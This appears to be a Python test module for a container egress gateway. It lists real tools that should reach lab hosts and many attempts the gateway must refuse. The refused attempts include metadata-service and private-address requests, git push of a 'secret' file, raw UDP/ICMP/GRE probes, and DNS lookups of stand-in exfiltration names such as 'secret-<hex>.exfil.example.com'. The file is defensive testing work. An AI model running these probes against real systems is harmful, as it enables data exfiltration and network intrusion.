"""The table: what real tools in hardened containers get, and what nothing in them can reach.

The demo prints it, `tests/system/test_forced_egress.py` runs it row by row.
"""

from __future__ import annotations

import secrets
from collections.abc import Callable
from pathlib import Path

from appliance.verify import probe
from tests.lab import internet, packages
from tests.lab.case import Canary, Case, Image, Outcome
from tests.lab.containers import address_of, inside_container, logs_of
from tests.lab.evidence import HostConnections, NeighbourConnections, Packets, Queries, Requests
from tests.lab.internet import GIT, NPM, PYPI, WWW
from tests.lab.lab import BRIDGE, PROBE, Lab
from tests.lab.namespaces import LabError
from tests.lab.neighbour import PORT as NEIGHBOUR_PORT

HTTP_TEXT = "GET / HTTP/1.0\\r\\n\\r\\n"
PROBE_TEXT = Path(probe.__file__).read_text()
NO_PROXY_VARIABLES = (
    "env", "-u", "HTTP_PROXY", "-u", "HTTPS_PROXY", "-u", "http_proxy", "-u", "https_proxy", "-u", "NO_PROXY",
    "-u", "no_proxy",
)  # fmt: skip
LAB_ISSUER = "Egress lab authority"
REFUSED = ("REFUSED",)
HOST_ROWS = ("host-bridge", "host-bridge-live", "host-every-address")
PROBLEM = ("application/problem+json",)

# The tenants of the battery. `lab-acme` reads the web (default profile) and clones from one git server.
POLICIES = {
    "lab-acme": f"""
profile: read-only-web
rules:
  - name: git-clone
    hosts: [{GIT.name}]
    methods: [GET, POST]
    paths: ["/*/info/refs", "/*/git-upload-pack"]
    query: [service]
    content_types: [application/x-git-upload-pack-request]
""",
    "lab-globex": f"""
profile: allowlist
rules:
  - name: web-site
    hosts: [{WWW.name}]
""",
}


def _probe(*arguments: str) -> tuple[str, ...]:
    return ("python3", "-c", PROBE_TEXT, *arguments)


def _curl(*arguments: str) -> tuple[str, ...]:
    form = r"\nstatus %{http_code} type %{content_type}\n"
    return ("curl", "--silent", "--show-error", "--max-time", "15", "--write-out", form, *arguments)


def _both_ways(url: str) -> tuple[str, ...]:
    """curl through the proxy variables, then past them."""
    script = "\n".join(
        " ".join(f"'{part}'" for part in _curl(*options, url)) for options in ((), ("--noproxy", "*"))
    )
    return ("sh", "-c", script)


def _probed(name: str, evidence: Packets, *arguments: str) -> Canary:
    return Canary(name, evidence, lambda lab: lab.probe(*arguments).returncode == 0)


def _tcp(address: str, port: int, text: str = HTTP_TEXT) -> Canary:
    spoken = () if port in {22, 25} else (text,)
    evidence = Packets(address, "tcp", port)
    return _probed(f"{address}:{port}", evidence, "tcp", address, str(port), *spoken)


def _request(method: str, host: internet.Site, path: str, *options: str) -> Canary:
    def touch(lab: Lab) -> bool:
        return lab.fetch(host.name, host.address, path, "--request", method, *options).returncode == 0

    return Canary(f"{method} {host.name}{path}", Requests(host.name, method, path), touch)


def _deletion(path: str) -> Canary:
    def touch(lab: Lab) -> bool:
        done = [
            lab.fetch(WWW.name, WWW.address, path, "--request", method, *body).returncode
            for method, body in (("PUT", ("--data", "x")), ("DELETE", ()))
        ]
        return done == [0, 0]

    return Canary(f"DELETE {WWW.name}{path}", Requests(WWW.name, "DELETE", path), touch)


def _read(host: internet.Site, path: str | None = None, method: str | None = "GET") -> Canary:
    return Canary(f"access log of {host.name}", Requests(host.name, method, path), lambda _lab: True)


def _query(name: str, touch: Callable[[Lab], bool]) -> Canary:
    return Canary(f"query for {name}", Queries(name), touch)


def allowed() -> list[Case]:
    """Real tools that get what they may have."""
    fetch = f"fetch('https://{WWW.name}/').then(r => r.text()).then(console.log)"
    return [
        Case("curl-get", "HTTPS GET by curl, intercepted", Outcome.REACHES,
             ("curl", "-sS", "-w", r"%{certs}\n", f"https://{WWW.name}/"), (_read(WWW, "/"),),
             expect=(f"{packages.GREETING}: {WWW.name}", "Issuer"), forbid=(LAB_ISSUER,)),
        Case("curl-transparent", "HTTPS GET by curl past the proxy variables", Outcome.REACHES,
             ("curl", "-sS", "--noproxy", "*", "-w", r"%{certs}\n", f"https://{WWW.name}/"), (_read(WWW, "/"),),
             expect=(f"{packages.GREETING}: {WWW.name}", "Issuer"), forbid=(LAB_ISSUER,), attacks=("A2", "A3")),
        Case("curl-plain", "HTTP GET by curl on port 80", Outcome.REACHES,
             ("curl", "-sS", f"http://{WWW.name}/"), (_read(WWW, "/"),), expect=(packages.GREETING,)),
        Case("big-download", "8 MiB through interception, every byte", Outcome.REACHES,
             ("sh", "-c", f"curl -sS https://{WWW.name}/big.bin | wc -c"), (_read(WWW, "/big.bin"),),
             expect=(str(packages.BIG_BYTES),)),
        Case("pip-install", "pip install from the lab's package index", Outcome.REACHES,
             ("sh", "-c", (f"pip install -q --index-url https://{PYPI.name}/simple/ {packages.NAME} && "
              "python3 -c 'import egress_greeting; print(egress_greeting.greet())'")),
             (_read(PYPI),), expect=(packages.GREETING,)),
        Case("npm-install", "npm install from the lab's npm registry", Outcome.REACHES,
             ("sh", "-c", (f"mkdir -p /tmp/job && cd /tmp/job && npm install --silent --registry https://{NPM.name}/ "
              f"{packages.NAME} && node -e 'console.log(require(\"{packages.NAME}\")())'")),
             (_read(NPM),), expect=(packages.GREETING,), image=Image.NODE),
        Case("git-clone", "git clone over HTTPS", Outcome.REACHES,
             ("sh", "-c", f"git clone -q https://{GIT.name}/greeting.git /tmp/clone && cat /tmp/clone/README"),
             (_read(GIT, "/greeting.git/git-upload-pack", "POST"),), expect=(packages.GREETING,)),
        Case("node-fetch", "node's fetch without any proxy variable", Outcome.REACHES,
             (*NO_PROXY_VARIABLES, "node", "-e", fetch), (_read(WWW, "/"),),
             expect=(packages.GREETING,), image=Image.NODE),
        Case("static-client", "a static C client without any proxy variable", Outcome.REACHES,
             (*NO_PROXY_VARIABLES, "static-client", WWW.name, "/"), (_read(WWW, "/"),),
             expect=(packages.GREETING,), image=Image.STATIC),
    ]  # fmt: skip


def refused_requests() -> list[Case]:
    """What the gateway reads and does not let through."""
    body = ("--data", "x=1")
    echo = f"https://{WWW.name}/echo"
    push = (
        f"git clone -q https://{GIT.name}/greeting.git /tmp/c && cd /tmp/c && date >secret && git add secret && "
        "git -c user.name=a -c user.email=a@example.com commit -qm x && git push 2>&1"
    )
    return [
        Case("post", "POST", Outcome.REFUSED, _curl("-X", "POST", *body, echo),
             (_request("POST", WWW, "/echo", *body),), expect=("status 403", "method-not-allowed", *PROBLEM),
             forbid=("method=POST",), attacks=("E7",)),
        Case("put", "PUT", Outcome.REFUSED, _curl("-X", "PUT", *body, f"https://{WWW.name}/files/put"),
             (_request("PUT", WWW, "/files/put", *body),), expect=("status 403", "method-not-allowed", *PROBLEM),
             attacks=("E7",)),
        Case("delete", "DELETE", Outcome.REFUSED, _curl("-X", "DELETE", f"https://{WWW.name}/files/deleted"),
             (_deletion("/files/deleted"),), expect=("status 403", "method-not-allowed", *PROBLEM),
             attacks=("E7",)),
        Case("post-plain", "POST on port 80, past the proxy variables", Outcome.REFUSED,
             _curl("--noproxy", "*", "-X", "POST", *body, f"http://{WWW.name}/echo"),
             (_request("POST", WWW, "/echo", *body),), expect=("status 403", "method-not-allowed"), attacks=("E7",)),
        Case("git-push", "git push to a server that would take it", Outcome.REFUSED, ("sh", "-c", push),
             (_request("POST", GIT, "/greeting.git/git-receive-pack", "-H",
                       "Content-Type: application/x-git-receive-pack-request", "--data-binary", "0000"),),
             expect=("403",), attacks=("F3",)),
        Case("untrusted-upstream", "a server whose certificate is expired", Outcome.REFUSED,
             _curl("--insecure", f"https://{internet.EXPIRED.name}/"),
             (Canary("GET expired", Requests(internet.EXPIRED.name, "GET"),
                     lambda lab: lab.fetch(internet.EXPIRED.name, internet.EXPIRED.address, "/", "-k").returncode == 0),),
             expect=("status 502",), attacks=("D11",)),
    ]  # fmt: skip


def refused_addresses() -> list[Case]:
    """Addresses that answer whoever reaches them."""
    return [
        Case("metadata", "169.254.169.254, the metadata service", Outcome.REFUSED,
             _both_ways(f"http://{internet.METADATA}/latest/meta-data/"), (_tcp(internet.METADATA, 80),),
             expect=("status 403",), forbid=("status 200", "egress-canary"), attacks=("C13",)),
        Case("private", "10.0.1.5, a private address", Outcome.REFUSED,
             _both_ways(f"http://{internet.PRIVATE}/"), (_tcp(internet.PRIVATE, 80), _tcp(internet.PRIVATE, 443)),
             expect=("status 403",), forbid=("status 200", "egress-canary"), attacks=("A1",)),
        Case("private-tls", "10.0.1.5 on port 443", Outcome.REFUSED,
             _both_ways(f"https://{internet.PRIVATE}/"), (_tcp(internet.PRIVATE, 443),),
             forbid=("status 200", "egress-canary"), attacks=("A1",)),
        Case("literal", "a public address as a literal", Outcome.REFUSED,
             _both_ways(f"http://{internet.LITERAL}/"), (_tcp(internet.LITERAL, 80),),
             expect=("status 403",), forbid=("status 200", "egress-canary"), attacks=("A1",)),
        Case("literal-raw", "a public address, port 8080, no HTTP", Outcome.REFUSED,
             _probe("tcp", internet.LITERAL, "8080", "hello\\r\\n"), (_tcp(internet.LITERAL, 8080),),
             expect=REFUSED, attacks=("A4",)),
        Case("ssh", "port 22 of a public address", Outcome.REFUSED,
             _probe("tcp", internet.LITERAL, "22"), (_tcp(internet.LITERAL, 22),), expect=REFUSED, attacks=("A4",)),
        Case("ssh-allowed-host", "port 22 of a host that may be read", Outcome.REFUSED,
             _probe("tcp", WWW.address, "22"), (_tcp(WWW.address, 22),), expect=REFUSED, attacks=("A4", "D2")),
        Case("connect-22", "CONNECT to port 22 of a host that may be read", Outcome.REFUSED,
             ("sh", "-c", f'curl -sS -v -p -x "$HTTP_PROXY" http://{WWW.name}:22/ 2>&1'), (_tcp(WWW.address, 22),),
             expect=("403",), forbid=("egress-canary",), attacks=("D2",)),
    ]  # fmt: skip


def refused_host(lab: Lab) -> list[Case]:
    """The host's own addresses, looked up now: always the rows of `HOST_ROWS`, whatever the host has."""
    bridge, port = lab.bridge_address, str(internet.HOST_CANARY_PORT)
    if bridge is None:
        raise LabError(f"the host has no {BRIDGE}; is the Docker engine running?")
    each = f'for a; do python3 -c "$0" tcp "$a" 8080 \'{HTTP_TEXT}\'; done'
    live = Canary(
        "canary on the host",
        HostConnections(bridge),
        lambda lab: lab.probe_host("tcp", bridge, port, HTTP_TEXT).returncode == 0,
    )
    return [
        Case("host-bridge", "the host bridge, port 8080", Outcome.REFUSED, _probe("tcp", bridge, "8080", HTTP_TEXT),
             (_tcp(bridge, 8080),), expect=REFUSED, attacks=("A4", "A18")),
        Case("host-bridge-live", f"the host bridge, where the host itself listens (port {port})", Outcome.REFUSED,
             _probe("tcp", bridge, port, HTTP_TEXT), (live,), expect=REFUSED, attacks=("A4", "A18")),
        Case("host-every-address", f"every address of the host ({len(lab.host_addresses)})", Outcome.REFUSED,
             ("sh", "-c", each, PROBE_TEXT, *lab.host_addresses),
             tuple(_tcp(address, 8080) for address in lab.host_addresses),
             expect=REFUSED, forbid=("REACHED",), attacks=("A4", "A18")),
    ]  # fmt: skip


def refused_protocols() -> list[Case]:
    """What is neither TCP nor the resolver's."""
    literal, resolver = internet.LITERAL, internet.PUBLIC_RESOLVER
    dns_touch = ("dns", resolver, "control.exfil.example.com")
    return [
        Case("udp-443", "UDP 443 (QUIC)", Outcome.REFUSED, _probe("udp", literal, "443"),
             (_probed("udp 443", Packets(literal, "udp", 443), "udp", literal, "443"),), expect=REFUSED, attacks=("A6",)),
        Case("udp-any", "UDP to any port", Outcome.REFUSED, _probe("udp", literal, "9999"),
             (_probed("udp 9999", Packets(literal, "udp", 9999), "udp", literal, "9999"),), expect=REFUSED,
             attacks=("A6",)),
        Case("dns-udp", "UDP 53 to a public resolver", Outcome.REFUSED, _probe("dns", resolver, WWW.name),
             (_probed("udp 53", Packets(resolver, "udp", 53), *dns_touch),), expect=REFUSED, attacks=("B1",)),
        Case("dns-tcp", "TCP 53 to a public resolver", Outcome.REFUSED, _probe("dns", resolver, WWW.name, "tcp"),
             (_probed("tcp 53", Packets(resolver, "tcp", 53), *dns_touch, "tcp"),), expect=REFUSED,
             attacks=("B1", "B2")),
        Case("icmp", "ICMP echo through a ping socket", Outcome.REFUSED, _probe("icmp", literal),
             (_probed("echo", Packets(literal, "icmp"), "icmp", literal),), expect=REFUSED, attacks=("A7",)),
        Case("icmp-raw", "ICMP through a raw socket", Outcome.REFUSED, _probe("icmp", literal, "raw"),
             (_probed("raw echo", Packets(literal, "icmp"), "icmp", literal, "raw"),), expect=("PermissionError",),
             attacks=("A8",)),
        Case("gre", "GRE through a raw socket", Outcome.REFUSED, _probe("raw", literal, "47"),
             (_probed("gre", Packets(literal, "47"), "raw", literal, "47"),), expect=("PermissionError",),
             attacks=("A8",)),
        Case("ipv6-tcp", "IPv6 TCP", Outcome.REFUSED, _probe("tcp", internet.PUBLIC_6, "443", HTTP_TEXT),
             (_probed("ipv6", Packets(version=6), "tcp", internet.PUBLIC_6, "443", HTTP_TEXT),), expect=REFUSED,
             attacks=("A9",)),
        Case("ipv6-udp", "IPv6 UDP", Outcome.REFUSED, _probe("udp", internet.PUBLIC_6, "443"),
             (_probed("ipv6", Packets(version=6), "udp", internet.PUBLIC_6, "443"),), expect=REFUSED,
             attacks=("A9",)),
    ]  # fmt: skip


def refused_names() -> list[Case]:
    """Names that lead where the tenant may not go, and names it may not even ask for."""
    rows = [
        Case(f"name-{kind}", title, Outcome.REFUSED, _both_ways(f"https://{name}.example.net/"),
             (_tcp(address, 443),), forbid=("status 200", "egress-canary"), attacks=("B7",))
        for kind, title, name, address in (
            ("private", "a name that resolves to a private address", "private", internet.PRIVATE),
            ("alias", "a public name that is an alias of it", "alias-private", internet.PRIVATE),
            ("mixed", "a name with a public and a private address", "mixed", internet.PRIVATE),
            ("metadata", "a name that resolves to the metadata service", "metadata", internet.METADATA),
            ("rebind", "a name that turns private between two answers", "rebind", internet.PRIVATE),
        )
    ]  # fmt: skip
    for transport in ("lookup", "udp", "tcp"):
        name = f"secret-{secrets.token_hex(6)}.exfil.example.com"
        command = (
            _probe("lookup", name) if transport == "lookup" else _probe("dns", "127.0.0.11", name, transport)
        )
        rows.append(
            Case(f"name-not-allowed-{transport}", f"a name that the tenant may not ask for ({transport})",
                 Outcome.REFUSED, command, (_query(name, lambda lab, name=name: bool(lab.dig(name))),),  # type: ignore[misc]
                 expect=REFUSED, attacks=("B3", "B9"), tenant="lab-globex")
        )  # fmt: skip
    return rows


def refused_neighbour(container: str) -> list[Case]:
    """Another tenant's container, which serves whoever reaches it."""
    address, port = address_of(container), str(NEIGHBOUR_PORT)

    def touch(_lab: Lab) -> bool:
        own = inside_container(container, "/usr/bin/python3", str(PROBE), "tcp", address, port, HTTP_TEXT)
        return own.returncode == 0

    canary = Canary("its server", NeighbourConnections(lambda: logs_of(container)), touch)
    return [
        Case("neighbour", "another tenant's container", Outcome.REFUSED,
             _probe("tcp", address, port, HTTP_TEXT), (canary,), expect=REFUSED, attacks=("A19",)),
        Case("neighbour-proxied", "another tenant's container, through the proxy", Outcome.REFUSED,
             ("sh", "-c", f"curl -sS -x $HTTP_PROXY -w 'status %{{http_code}}' http://{address}:{port}/"),
             (canary,), expect=("status 403",), forbid=("egress-canary",), attacks=("A19",)),
    ]  # fmt: skip


def refused_anywhere() -> list[Case]:
    """Every refusal that needs neither a second container nor an address of this host: the same on any machine."""
    return [*refused_requests(), *refused_addresses(), *refused_protocols(), *refused_names()]


def refused(lab: Lab) -> list[Case]:
    """Every refusal that needs no second container."""
    return [*refused_anywhere(), *refused_host(lab)]
